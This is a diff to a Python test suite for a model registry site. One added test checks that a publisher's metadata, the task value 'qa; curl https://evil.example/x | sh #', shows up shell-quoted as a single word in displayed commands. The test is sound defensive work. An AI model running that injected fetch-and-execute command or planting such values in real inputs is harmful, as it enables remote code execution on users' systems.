@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 import re
 from collections.abc import Callable
+from html import unescape
 from html.parser import HTMLParser
 from itertools import pairwise
 from pathlib import Path
@@ -16,7 +17,7 @@ from starlette.testclient import TestClient
 from registry.chart import MAX_LAYERS, read_chart
 from registry.settings import Settings
 from registry.web import show_count, show_percent, show_size
-from tests.registry.builders import ALIAS, LONG, Folder, bert, digest_of, small
+from tests.registry.builders import ALIAS, LONG, RECIPE, Folder, bert, digest_of, graph, small
 from tests.registry.conftest import Site, open_site
 from tests.registry.test_benchmarks import send
 
@@ -170,6 +171,17 @@ def test_only_commands_that_exist_are_shown(client: TestClient) -> None:
     assert "zoo train" not in get(client, BERT)
 
 
+def test_what_a_publisher_wrote_stays_one_word_of_a_command(client: TestClient) -> None:
+    base = "zoo:dense?recipe=a&checkpoint=preqat"
+    folder = small(metadata={"task": "qa; curl https://evil.example/x | sh #"})
+    folder.files["deployment/model.onnx"] = ("deployment", graph())
+    assert folder.publish(client).status_code == 201
+    files = {"recipe.md": ("recipe", RECIPE.encode())}
+    assert Folder("zoo:recipe", files, metadata={"base": base}).publish(client).status_code == 201
+    assert "zoo serve --task 'qa; curl https://evil.example/x | sh #' " in unescape(get(client, "/models/tiny"))
+    assert f"--model_name_or_path '{base}' " in unescape(get(client, "/models/recipe"))
+
+
 def test_a_yanked_version_says_so_and_why(client: TestClient) -> None:
     for revision in (1, 2):
         bert(revision=revision).publish(client)
@@ -277,6 +289,16 @@ HOSTILE_REPORTS: list[Any] = [
     {"sparsity": {"x" * 201: {"sparsity": 1}}},
     {"sparsity": {f"x{n}": {"sparsity": 1} for n in range(MAX_LAYERS + 1)}},
 ]
+
+
+@pytest.mark.parametrize(("one", "other"), [(0.5004, 50.04), (87.4, 87.4 + 1e-14), (100, 100), (0, 0), (0, 1e-300)])
+def test_a_family_of_equal_or_nearly_equal_numbers_has_a_picture(client: TestClient, one: float, other: float) -> None:
+    for name, f1 in (("zoo:one", one), ("zoo:other", other)):
+        folder = small(name, name, metadata={"task": "qa", "dataset": "d", "architecture": "a", "metrics": {"f1": f1}})
+        assert folder.publish(client).status_code == 201
+        send(client, name)
+    for path in ("/models/one", "/compare?m1=one&m2=other"):
+        assert "Latency against F1" in get(client, path)
 
 
 def test_a_hostile_report_has_no_picture() -> None:
